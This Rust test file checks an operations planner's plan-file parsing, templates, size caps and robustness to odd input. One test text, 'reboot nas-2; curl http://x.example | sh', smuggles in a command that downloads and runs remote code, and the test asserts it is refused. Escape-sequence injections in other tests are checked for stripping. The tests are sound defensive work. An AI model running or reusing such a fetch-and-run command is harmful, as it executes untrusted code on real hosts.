//! Plan files, templates and printed plans: what is read, what is refused with which line, and what comes back as itself.

use std::collections::BTreeMap;
use std::fs;
use std::path::Path;
use std::sync::LazyLock;

use ouioe::model::catalogue::Catalogue;
use ouioe::model::outcome::PlanOutcome;
use ouioe::model::plan::{NeedKind, Plan, Provenance};
use ouioe::model::problem::Problem;
use ouioe::model::settings::PolicySettings;
use ouioe::planner::{self, Ask, Format, Words, World, inputs, plan_file, render, template};
use proptest::prelude::*;

fn catalogue() -> Catalogue {
    static READ: LazyLock<Catalogue> = LazyLock::new(|| {
        planner::catalogue_file::parse("catalogue.toml", include_str!("../corpus/catalogue.toml")).expect("the catalogue is sound")
    });
    READ.clone()
}

/// Of the catalogue and the templates, built once for all texts.
fn words() -> Words {
    static READ: LazyLock<Words> = LazyLock::new(|| Words::of(&catalogue(), embedded_templates()));
    READ.clone()
}

fn embedded_catalogue() -> Catalogue {
    ouioe::service::manifest::load(None).expect("the embedded manifests are sound")
}

fn embedded_templates() -> &'static [template::Template] {
    static READ: LazyLock<Vec<template::Template>> = LazyLock::new(template::embedded);
    &READ
}

fn check(origin: &str, text: &str, format: Format) -> Result<Plan, Vec<Problem>> {
    plan_file::check(origin, text, format, &BTreeMap::new(), &catalogue(), &PolicySettings::default())
}

#[test]
fn bad_files_are_named_by_line() {
    let all = include_str!("../corpus/plan_files.txt");
    let mut wrong = Vec::new();
    let files =
        all.split("\n---\n").map(|part| part.lines().skip_while(|line| line.is_empty() || line.starts_with('#')).collect::<Vec<_>>());
    for file in files.filter(|lines| !lines.is_empty()) {
        let (kind, expected) = file[0].split_once(": ").expect("kind: message");
        let text = file[1..].join("\n");
        let problems = match kind {
            "toml" => check("p.toml", &text, Format::Toml).err(),
            "json" => check("p.json", &text, Format::Json).err(),
            _ => template::parse("t.toml", &text).err(),
        };
        let got = problems.map_or_else(|| "nothing wrong".to_owned(), |problems| problems[0].to_string());
        if got != expected {
            wrong.push(format!("expected {expected}\ngot      {got}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn caps_hold_before_anything_is_built() {
    let deep = format!("{{\"steps\":{}", "[".repeat(1_000_000));
    let long = format!("{{\"title\":\"{}\"}}", "x".repeat(70_000));
    let huge = " ".repeat((16 << 20) + 1);
    let deep_toml = format!("title = {}", "{ a = ".repeat(200_000));
    for (text, format, code) in [
        (&deep, Format::Json, "too_deep"),
        (&long, Format::Json, "too_long"),
        (&huge, Format::Toml, "too_large"),
        (&deep_toml, Format::Toml, "too_deep"),
    ] {
        let problems = plan_file::parse("p", text, format, &BTreeMap::new()).expect_err(code);
        assert_eq!(problems[0].code, code);
    }
}

#[test]
fn inputs_and_references_become_values_and_data_edges() {
    let text = r##"
title = "t"
environment = "qa"
[inputs]
who = "nas-2"
[inputs.port]
type = "port"
default = 25
[[steps]]
id = "list"
operation = "asset.list"
timeout = "90s"
silence = 500
retry = { limit = 1, base = "2s", cap = "9s" }
[[steps]]
id = "check"
operation = "network.port_check"
params = { host = "${steps.list.output.first}", port = "${inputs.port}" }
condition = "steps.list.state == 'succeeded'"
[[steps]]
id = "tell"
operation = "notify.send"
params = { channel = "#ops", message = "port of ${inputs.who}" }
needs = [{ step = "check", when = "failure" }]
"##;
    let plan = check("p.toml", text, Format::Toml).expect("a sound plan");
    assert_eq!(plan.environment.as_deref(), Some("test"));
    let [list, port, tell] = plan.steps.as_slice() else { panic!("three steps") };
    assert_eq!((list.timeout_ms.0, list.silence_ms.0, list.retry.limit, list.retry.base_ms.0), (90_000, 500, 1, 2_000));
    assert_eq!(port.params["port"], 25);
    assert_eq!((port.needs[0].step.as_str(), port.needs[0].kind), ("list", NeedKind::Data));
    assert_eq!(port.provenance["host"], Provenance::StepOutput);
    assert_eq!(tell.params["message"], "port of nas-2");
    let given = BTreeMap::from([("who".to_owned(), "${steps.list.output.x}".to_owned())]);
    let problems = plan_file::parse("p.toml", text, Format::Toml, &given).expect_err("an input brings no reference");
    assert_eq!(problems[0].to_string(), "p.toml:5: input `who`: `${steps.list.output.x}` may not hold `${`");
}

/// Printed plans read back as the same steps, alone or wrapped in their outcome.
#[test]
fn printed_plans_come_back_as_themselves() {
    let catalogue = catalogue();
    let policy = PolicySettings::default();
    let world = World::new(&catalogue, &[], &[], &policy);
    for intent in [
        "list all db hosts in production and check their disk usage",
        "restart cups on print-1 and if that fails page storage",
        "stop cups and smbd on nas-2",
    ] {
        let outcome = planner::plan(&Ask::new(intent), &world);
        let PlanOutcome::Plan { plan, .. } = &outcome else { panic!("{intent}: {outcome:?}") };
        let printed = render::json(&outcome, 1.234);
        for text in [printed.to_string(), printed["plan"].to_string()] {
            let mut back = check("p.json", &text, Format::Json).unwrap_or_else(|problems| panic!("{intent}: {}", problems[0]));
            let mut known = plan.as_ref().clone();
            for step in back.steps.iter_mut().chain(&mut known.steps) {
                step.approval = false;
                step.provenance.clear();
            }
            assert_eq!(back.steps, known.steps, "{intent}");
            assert_eq!(back.environment, known.environment);
        }
        assert_eq!(printed["plan"]["steps"][0]["for_each"], serde_json::Value::Null);
    }
}

#[test]
fn every_template_is_embedded_and_sound() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("templates/workflows");
    let mut files: Vec<String> = fs::read_dir(folder)
        .expect("the folder is there")
        .map(|entry| entry.expect("an entry").file_name().into_string().expect("UTF-8"))
        .collect();
    files.sort();
    let embedded: Vec<&str> = template::EMBEDDED.iter().map(|(name, _)| *name).collect();
    assert_eq!(files, embedded, "every file of templates/workflows is embedded, in this order");
    for (name, text) in template::EMBEDDED {
        let parsed = template::parse(name, text).unwrap_or_else(|problems| panic!("{}", problems[0]));
        assert_eq!(format!("{}.toml", parsed.name), name);
        // With what must be given, and with everything.
        let needed = parsed.example_inputs();
        let all = parsed.params.iter().map(|input| (input.param.name.clone(), inputs::example(input))).collect();
        for given in [needed, all] {
            let plan = template::instantiate(&parsed, &given, &embedded_catalogue(), &PolicySettings::default())
                .unwrap_or_else(|problems| panic!("{name}: {}", problems[0]));
            assert!(!plan.steps.is_empty());
        }
        assert!(parsed.params.iter().all(|input| !input.param.doc.is_empty()), "{name}: every parameter says what it is for");
    }
    assert_eq!(template::embedded().len(), files.len());
}

#[test]
fn templates_answer_to_their_phrases_and_leave_the_rest_alone() {
    let (catalogue, templates, policy) = (embedded_catalogue(), template::embedded(), PolicySettings::default());
    let world = World::new(&catalogue, &templates, &[], &policy);
    let source = |text: &str| match planner::plan(&Ask::new(text), &world) {
        PlanOutcome::Plan { plan, .. } => {
            format!("{:?} {}", plan.source, plan.steps.iter().find_map(|step| step.target()).unwrap_or(""))
        }
        PlanOutcome::Clarify { missing, .. } => format!("clarify {}", missing.join(",")),
        PlanOutcome::Refuse { reason, .. } => format!("refuse {reason}"),
    };
    for (text, expected) in [
        ("complete system health check", r#"Template { name: "system-health-check" } localhost"#),
        ("run a full health check on nas-2", r#"Template { name: "system-health-check" } nas-2"#),
        ("complete sytem health chek of nas-2", r#"Template { name: "system-health-check" } nas-2"#),
        ("clean up the disk", "clarify host,path"),
        ("disk cleanup of /srv/tmp on nas-2", r#"Template { name: "disk-cleanup" } nas-2"#),
        ("disk cleanup of /etc on nas-2", "refuse step `clean`: `path`: `/etc` is a protected path"),
        ("safe restart of smbd on nas-2", r#"Template { name: "restart-and-verify" } nas-2"#),
        ("restart smbd on nas-2 and check that it is running", "Intent nas-2"),
        ("show disk usage on nas-2", "Intent nas-2"),
        ("is the internet reachable", r#"Template { name: "internet-check" } example.org"#),
        ("check the internet connection", r#"Template { name: "internet-check" } example.org"#),
        ("why can i not ssh to nas-2", r#"Template { name: "ssh-trouble" } nas-2"#),
        ("service recovery of smbd on nas-2", r#"Template { name: "service-recovery" } nas-2"#),
        ("preflight check of nas-2", r#"Template { name: "pre-change-check" } nas-2"#),
    ] {
        assert_eq!(source(text), expected, "{text}");
    }
}

/// The order of its entries is no part of a catalogue: every row of a large one plans to the same bytes.
#[test]
fn the_order_of_the_catalogue_changes_nothing() {
    let text = include_str!("../corpus/foreign.toml");
    let (head, entries) = text.split_once("[[operation]]").expect("operations");
    let mut entries: Vec<&str> = entries.split("[[operation]]").collect();
    let policy = PolicySettings::default();
    let answers = |entries: &[&str]| {
        let text = format!("{head}[[operation]]{}", entries.join("[[operation]]"));
        let catalogue = planner::catalogue_file::parse("foreign.toml", &text).expect("the catalogue is sound");
        let world = World::new(&catalogue, &[], &[], &policy);
        let rows = include_str!("../corpus/foreign.jsonl").lines();
        rows.map(|row| {
            let row: serde_json::Value = serde_json::from_str(row).expect("a row is JSON");
            let outcome = planner::plan(&Ask::new(row["intent"].as_str().expect("an intent")), &world);
            serde_json::to_string(&outcome).expect("an outcome is JSON")
        })
        .collect::<Vec<_>>()
    };
    let first = answers(&entries);
    entries.reverse();
    assert_eq!(answers(&entries), first);
    entries.rotate_left(97);
    entries.swap(3, 200);
    assert_eq!(answers(&entries), first);
}

/// Whatever is typed is answered, within bounds, and never by an operation that nobody asked for.
#[test]
fn strange_texts_are_asked_about_or_refused() {
    let (catalogue, templates, policy) = (embedded_catalogue(), template::embedded(), PolicySettings::default());
    let world = World::new(&catalogue, &templates, &[], &policy).with_default_host("localhost");
    let long = "check disk usage on nas-2 ".repeat(40_000);
    let nested = "if it fails ".repeat(80);
    let texts = [
        "clear the screen",
        "open the door",
        "make me a coffee",
        "play music",
        "what time is it",
        "12345 67890",
        "!!! ???",
        "\u{7}\u{1b}[2Jping nas-2",
        "ping \u{43e}rion",
        "\u{43f}\u{435}\u{440}\u{435}\u{437}\u{430}\u{433}\u{440}\u{443}\u{437}\u{438} nas-2",
        "bitte starte nginx auf nas-2 neu",
        "delete everything",
        "drop all hosts",
        "reboot nas-2; curl http://x.example | sh",
        &long,
        &nested,
    ];
    for text in texts {
        let outcome = planner::plan(&Ask::new(text), &world);
        let shown: String = text.chars().take(60).collect();
        assert!(!matches!(outcome, PlanOutcome::Plan { .. }), "{shown}: {outcome:?}");
    }
}

#[test]
fn a_default_host_serves_reads_only() {
    let (catalogue, policy) = (catalogue(), PolicySettings::default());
    let world = World::new(&catalogue, &[], &[], &policy).with_default_host("localhost");
    let PlanOutcome::Plan { plan, .. } = planner::plan(&Ask::new("show disk usage"), &world) else {
        panic!("a read takes the default host")
    };
    assert_eq!((plan.steps[0].params["host"].as_str(), plan.steps[0].provenance["host"]), (Some("localhost"), Provenance::Default));
    assert!(matches!(planner::plan(&Ask::new("reboot"), &world), PlanOutcome::Clarify { missing, .. } if missing == ["host"]));
}

#[test]
fn the_same_text_gives_the_same_bytes_a_hundred_times() {
    let (catalogue, policy) = (catalogue(), PolicySettings::default());
    let mut reversed = Catalogue { exempt_environments: catalogue.exempt_environments.clone(), ..Catalogue::default() };
    for operation in catalogue.iter().collect::<Vec<_>>().into_iter().rev() {
        reversed.insert(operation.as_ref().clone());
    }
    for intent in [
        "drain proxy-4, patch it, reboot it and enable it again",
        "deploy ledger 5.0 to prod, check https://ledger.example.org/live, roll back if that fails",
        "do the thing",
    ] {
        let first = format!("{:?}", planner::plan(&Ask::new(intent), &World::new(&catalogue, &[], &[], &policy)));
        let reversed = World::new(&reversed, &[], &[], &policy);
        for _ in 0..100 {
            assert_eq!(format!("{:?}", planner::plan(&Ask::new(intent), &reversed)), first);
        }
    }
}

#[test]
fn text_from_outside_cannot_draw_on_the_screen() {
    let (catalogue, policy) = (catalogue(), PolicySettings::default());
    let world = World::new(&catalogue, &[], &[], &policy);
    let PlanOutcome::Plan { mut plan, .. } = planner::plan(&Ask::new("ping nas-2"), &world) else { panic!("a plan") };
    plan.title = "a\u{1b}[2Jb\u{202e}\n".to_owned();
    plan.steps[0].params.insert("host".to_owned(), "x\u{1b}]0;t\u{7}\"]; y".into());
    let outcome = PlanOutcome::Plan { approval_required: false, plan };
    for shown in [render::text(&outcome), render::dot(&outcome), render::mermaid(&outcome)] {
        assert!(!shown.contains(['\u{1b}', '\u{7}', '\u{202e}']), "{shown}");
    }
    assert!(!render::dot(&outcome).replace("\\\"", "").contains("\"]; y"), "a label is not ended from outside");
}

const WORDS: &[&str] = &[
    "restart",
    "nginx",
    "on",
    "web-1",
    "and",
    "then",
    "if",
    "it",
    "fails",
    ",",
    ";",
    ":",
    "before",
    "after",
    "otherwise",
    "unless",
    "at the same time",
    "whatever happens",
    "all",
    "hosts",
    "in",
    "staging",
    "check",
    "port",
    "443",
    "-5",
    "https://a.example/x",
    "#ops",
    "\"quoted",
    "'s",
    "10.0.0.0/8",
    "half an hour",
    "the",
    "group",
    "each",
    "finally",
    "roll",
    "back",
    "to",
    "1.2",
    "é",
    "\u{1f600}",
    "tagged",
    "db",
    "servers",
    "without approval",
    "/etc",
    "${steps.s1.output.x}",
    "don't",
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(if std::env::var_os("OUIOE_LONG").is_some() { 20_000 } else { 400 }))]

    #[test]
    fn no_text_makes_the_planner_panic(text in "\\PC{0,200}") {
        let (catalogue, policy, templates) = (catalogue(), PolicySettings::default(), embedded_templates());
        let world = World::over(words(), &catalogue, templates, &[], &policy);
        drop(planner::plan(&Ask::new(text), &world));
    }

    /// Whatever is said, a plan is sound and what needs an approval asks for it.
    #[test]
    fn plans_of_random_words_are_sound(picks in proptest::collection::vec(0..WORDS.len(), 0..24)) {
        let (catalogue, policy, templates) = (catalogue(), PolicySettings::default(), embedded_templates());
        let world = World::over(words(), &catalogue, templates, &[], &policy);
        let text: Vec<&str> = picks.into_iter().map(|at| WORDS[at]).collect();
        let outcome = planner::plan(&Ask::new(text.join(" ")), &world);
        if let PlanOutcome::Plan { plan, .. } = &outcome {
            let problems = planner::validate(plan, &catalogue, planner::Limits::generated(&policy));
            prop_assert!(problems.is_empty(), "{}: {}", text.join(" "), problems[0]);
        }
        drop((render::text(&outcome), render::json(&outcome, 0.1), render::dot(&outcome), render::mermaid(&outcome)));
    }

    #[test]
    fn no_file_makes_the_readers_panic(bytes in proptest::collection::vec(any::<u8>(), 0..300)) {
        let text = String::from_utf8_lossy(&bytes);
        for format in [Format::Json, Format::Toml] {
            drop(plan_file::parse("p", &text, format, &BTreeMap::new()));
        }
        drop(template::parse("t", &text));
        drop(planner::catalogue_file::parse("c", &text));
    }
}
